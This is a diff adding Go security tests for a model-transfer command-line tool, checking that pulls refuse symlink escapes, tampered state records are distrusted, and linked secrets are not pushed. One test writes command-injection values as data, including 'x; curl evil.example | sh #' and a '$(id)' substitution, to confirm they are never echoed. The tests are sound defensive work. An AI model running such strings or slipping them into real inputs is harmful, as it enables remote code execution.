@@ -1,0 +1,243 @@
+package main
+
+import (
+	"archive/tar"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/modeltransfer/transfer/cmd/transfer/internal/pack"
+	"github.com/modeltransfer/transfer/registry"
+	"github.com/opencontainers/go-digest"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// titled is a layer of a name, as JSON.
+func titled(d descriptor, title string) string {
+	return fmt.Sprintf(`{"mediaType":"a/b","digest":%q,"size":%d,"annotations":{"org.opencontainers.image.title":%q}}`,
+		d.Digest, d.Size, title)
+}
+
+// of is a model of layers.
+func (reg *anyRegistry) of(layers ...string) registry.Manifest {
+	return reg.putManifest(fmt.Appendf(nil,
+		`{"schemaVersion":2,"mediaType":%q,"config":{"mediaType":"a/b","digest":%q,"size":2},"layers":[%s]}`,
+		registry.MediaTypeManifest, reg.put("{}").Digest, strings.Join(layers, ",")), registry.MediaTypeManifest)
+}
+
+// index is one that lists a manifest.
+func indexOf(m registry.Manifest) registry.Manifest {
+	return registry.NewManifest(fmt.Appendf(nil,
+		`{"schemaVersion":2,"mediaType":%q,"manifests":[{"mediaType":%q,"digest":%q,"size":%d}]}`,
+		registry.MediaTypeIndex, m.MediaType, m.Digest, len(m.Data)), "")
+}
+
+func TestH2NoModelMakesItsDirectoryOneOfBlobs(t *testing.T) {
+	reg := newAnyRegistry(t)
+	manifest, other := titled(reg.put("{}"), "manifest.json"), titled(reg.put("x"), "sha-1/sha-x")
+	for name, models := range map[string][]registry.Manifest{
+		"at once":        {reg.of(manifest, titled(reg.put("x"), "sha256-sums"))},
+		"one after one":  {reg.of(manifest), reg.of(other)},
+		"the other way":  {reg.of(other), reg.of(manifest)},
+		"with a partial": {reg.of(manifest, titled(reg.put("x"), "sha-"+someHex+".partial"))},
+	} {
+		dir := filepath.Join(t.TempDir(), "model")
+		for _, m := range models {
+			must(t, "pull", reg.ref(m), dir)
+		}
+		assert.Equal(t, pack.Plain, pack.KindOf(dir), name)
+		must(t, "verify", dir)
+	}
+}
+
+func TestH1LinksThatLeadOutByTheUsersOwnAreRefused(t *testing.T) {
+	reg := newAnyRegistry(t)
+	outside := tree(t, map[string]string{"secret": secret})
+	for _, target := range []string{"../data/secret", "../data", "../file", "../data/nothing/x"} {
+		var content bytes.Buffer
+		w := tar.NewWriter(&content)
+		require.NoError(t, w.WriteHeader(&tar.Header{Name: "sub/l", Linkname: target, Typeflag: tar.TypeSymlink}))
+		require.NoError(t, w.Close())
+		layer := strings.Replace(titled(reg.put(content.String()), "sub"), `"annotations":{`,
+			`"annotations":{"`+pack.UnpackAnnotation+`":"true",`, 1)
+		dir := t.TempDir()
+		link(t, outside, filepath.Join(dir, "data"))
+		link(t, filepath.Join(outside, "secret"), filepath.Join(dir, "file"))
+		r := runWith(t, "pull", reg.ref(reg.of(layer)), dir)
+		assert.Equal(t, exitFailed, r.code, target)
+		assert.Contains(t, r.stderr, "leads through a link that was there before")
+		assert.NoFileExists(t, filepath.Join(dir, "sub", "l"))
+	}
+}
+
+func TestH2PruneKeepsTheBlobsOfAManifestThatAnotherModelNamesAsALayer(t *testing.T) {
+	reg := newAnyRegistry(t)
+	honest := reg.model(map[string]string{"a": "honest a"})
+	evil := reg.of(titled(descriptor{Digest: honest.Digest, Size: int64(len(honest.Data))}, "a"))
+	dir := filepath.Join(t.TempDir(), "layout")
+	must(t, "pull", "--into", "oci", reg.ref(evil), dir)
+	index := reg.putManifest(indexOf(honest).Data, registry.MediaTypeIndex) // read after the evil one
+	must(t, "pull", "--into", "oci", reg.ref(index), dir)
+	must(t, "prune", dir)
+	assert.FileExists(t, pack.TreePath(dir, pack.OCI, digest.FromString("honest a")))
+}
+
+func TestH5IndexesInIndexesAreReadToTheirEnd(t *testing.T) {
+	reg := newAnyRegistry(t)
+	dir := filepath.Join(t.TempDir(), "layout")
+	child := reg.model(map[string]string{"a": "honest a"})
+	must(t, "pull", "--into", "oci", reg.ref(child), dir)
+	for range 8 {
+		child = indexOf(child)
+		require.NoError(t, os.WriteFile(pack.TreePath(dir, pack.OCI, digest.Digest(child.Digest)), child.Data, 0o600))
+	}
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "index.json"), indexOf(child).Data, 0o600))
+	must(t, "prune", dir)
+	assert.FileExists(t, pack.TreePath(dir, pack.OCI, digest.FromString("honest a")))
+	r := runWith(t, "prune", "--max-manifests", "5", dir)
+	assert.Contains(t, r.stderr, "raise --max-manifests")
+	padded := append(indexOf(child).Data, bytes.Repeat([]byte(" "), 2<<20)...)
+	large := registry.NewManifest(padded, "")
+	require.NoError(t, os.WriteFile(pack.TreePath(dir, pack.OCI, digest.Digest(large.Digest)), large.Data, 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "index.json"), indexOf(large).Data, 0o600))
+	r = runWith(t, "verify", "--max-manifests", "10", dir)
+	assert.Contains(t, r.stderr, "raise --max-manifests", "their bytes are bounded too")
+}
+
+func TestH11PruneKnowsTheModelsOfOllamaThatAreLinks(t *testing.T) {
+	reg := newAnyRegistry(t)
+	honest := reg.model(map[string]string{"a": "honest a"})
+	dir := filepath.Join(t.TempDir(), "models")
+	ref := reg.url + "/me/model:" + digest.Digest(honest.Digest).Encoded()[:12]
+	must(t, "pull", "--into", "ollama", ref, dir)
+	var manifest string
+	require.NoError(t, filepath.WalkDir(filepath.Join(dir, "manifests"), func(p string, d fs.DirEntry, err error) error {
+		if d.Type().IsRegular() {
+			manifest = p
+		}
+		return err
+	}))
+	blob := pack.TreePath(dir, pack.Ollama, digest.FromString("honest a"))
+	elsewhere := filepath.Join(t.TempDir(), "elsewhere")
+	for path := manifest; filepath.Base(path) != "manifests"; path = filepath.Dir(path) {
+		require.NoError(t, os.Rename(path, elsewhere))
+		link(t, elsewhere, path)
+		r := runWith(t, "prune", dir)
+		assert.FileExists(t, blob, path)
+		if path != manifest {
+			assert.Contains(t, r.stderr, "which models it has is not known")
+			assert.Equal(t, exitFailed, runWith(t, "verify", dir).code)
+		}
+		require.NoError(t, os.Remove(path))
+		require.NoError(t, os.Rename(elsewhere, path))
+	}
+	link(t, "nowhere", manifest+"-2")
+	assert.Equal(t, exitFailed, runWith(t, "prune", dir).code)
+}
+
+func TestH8ARecordOfAnotherUserIsNotTrusted(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("only root can make a file of somebody else")
+	}
+	reg := newAnyRegistry(t)
+	packed := strings.Replace(titled(reg.put(gzipped(t, map[string]string{"sub/a": "honest a"})), "sub"),
+		`"annotations":{`, `"annotations":{"`+pack.UnpackAnnotation+`":"true",`, 1)
+	for name, layer := range map[string]string{"a": titled(reg.put("honest a"), "a"), "sub/a": packed} {
+		honest, dir := reg.of(layer), t.TempDir()
+		must(t, "pull", reg.ref(honest), dir)
+		file, record := filepath.Join(dir, name), filepath.Join(dir, pack.StateDir, "record.json")
+		require.NoError(t, os.WriteFile(file, []byte("evil!! a"), 0o600))
+		info, err := os.Lstat(file)
+		require.NoError(t, err)
+		data, err := os.ReadFile(record)
+		require.NoError(t, err)
+		var r map[string]any
+		require.NoError(t, json.Unmarshal(data, &r))
+		seen := r["files"].(map[string]any)[name].(map[string]any)
+		st := info.Sys().(*syscall.Stat_t)
+		seen["time"], seen["changed"] = info.ModTime().UTC(), fmt.Sprintf("%d:%d", st.Ino, st.Ctim.Nano())
+		if name != "a" {
+			seen["digest"] = digest.FromString("evil!! a").String()
+		}
+		data, err = json.Marshal(r)
+		require.NoError(t, err)
+		require.NoError(t, os.WriteFile(record, data, 0o600))
+		require.NoError(t, os.Chown(record, 12345, 12345))
+		must(t, "pull", reg.ref(honest), dir)
+		got, err := os.ReadFile(file)
+		require.NoError(t, err)
+		assert.Equal(t, "honest a", string(got))
+	}
+}
+
+func TestH9NoCommandIsShownThatARecordHasMadeUp(t *testing.T) {
+	reg := newAnyRegistry(t)
+	for from, want := range map[string]string{
+		"x; curl evil.example | sh #": "--from REF\n", "h.example/a/b$(id)": "--from REF\n", "-x": "--from REF\n",
+		"": "--from REF\n", "h.example/a/b:v1": "--from h.example/a/b:v1\n",
+	} {
+		dir := t.TempDir()
+		must(t, "pull", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
+		record := filepath.Join(dir, pack.StateDir, "record.json")
+		data, err := os.ReadFile(record)
+		require.NoError(t, err)
+		var r map[string]any
+		require.NoError(t, json.Unmarshal(data, &r))
+		r["reference"] = from
+		data, err = json.Marshal(r)
+		require.NoError(t, err)
+		require.NoError(t, os.WriteFile(record, data, 0o600))
+		require.NoError(t, os.Remove(filepath.Join(dir, "a")))
+		assert.True(t, strings.HasSuffix(runWith(t, "verify", dir).stderr, want), from)
+	}
+}
+
+func TestH12ALinkedBlobIsHashedBeforeItIsSent(t *testing.T) {
+	reg := newAnyRegistry(t)
+	outside := tree(t, map[string]string{"secret": strings.Repeat(secret+"\n", 1<<20)})
+	fake := digest.FromString("something else")
+	m := registry.NewManifest(fmt.Appendf(nil,
+		`{"schemaVersion":2,"mediaType":%q,"config":{"mediaType":"a/b","digest":%q,"size":%d},"layers":[]}`,
+		registry.MediaTypeManifest, fake, (len(secret)+1)<<20), "")
+	tag := digest.Digest(m.Digest).Encoded()
+	for kind, files := range map[pack.Kind]map[string]string{
+		pack.Blobs:  {"manifest.json": string(m.Data)},
+		pack.Ollama: {"manifests/h/n/m/t": string(m.Data), "blobs/x": ""},
+		pack.OCI: {
+			"oci-layout": `{"imageLayoutVersion":"1.0.0"}`, "index.json": string(indexOf(m).Data),
+			"blobs/sha256/" + tag: string(m.Data),
+		},
+	} {
+		dir := tree(t, files)
+		link(t, filepath.Join(outside, "secret"), pack.TreePath(dir, kind, fake))
+		r := runWith(t, "push", dir, reg.url+"/pushed/model:v1")
+		assert.Equal(t, exitFailed, r.code, kind)
+		assert.Contains(t, r.stderr, "is a link: its content does not match its digest")
+		assert.False(t, reg.saw(secret), kind)
+	}
+}
+
+func TestH1PruneRemovesNothingThatHasOnlyTheLooksOfABlob(t *testing.T) {
+	reg := newAnyRegistry(t)
+	dir := t.TempDir()
+	must(t, "pull", "--into", "blobs", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
+	ours := []string{"", ".partial", ".partial.1", ".partial-abc2", ".journal", ".journal.3", ".tmp"}
+	theirs := []string{".safetensors", ".txt", ".gguf", ".partial.txt", "0", "00000000000000000000000000000000"}
+	for _, suffix := range append(append([]string{}, ours...), theirs...) {
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "sha256-"+someHex+suffix), nil, 0o600))
+	}
+	must(t, "prune", dir)
+	for _, suffix := range ours {
+		assert.NoFileExists(t, filepath.Join(dir, "sha256-"+someHex+suffix))
+	}
+	for _, suffix := range theirs {
+		assert.FileExists(t, filepath.Join(dir, "sha256-"+someHex+suffix))
+	}
+}
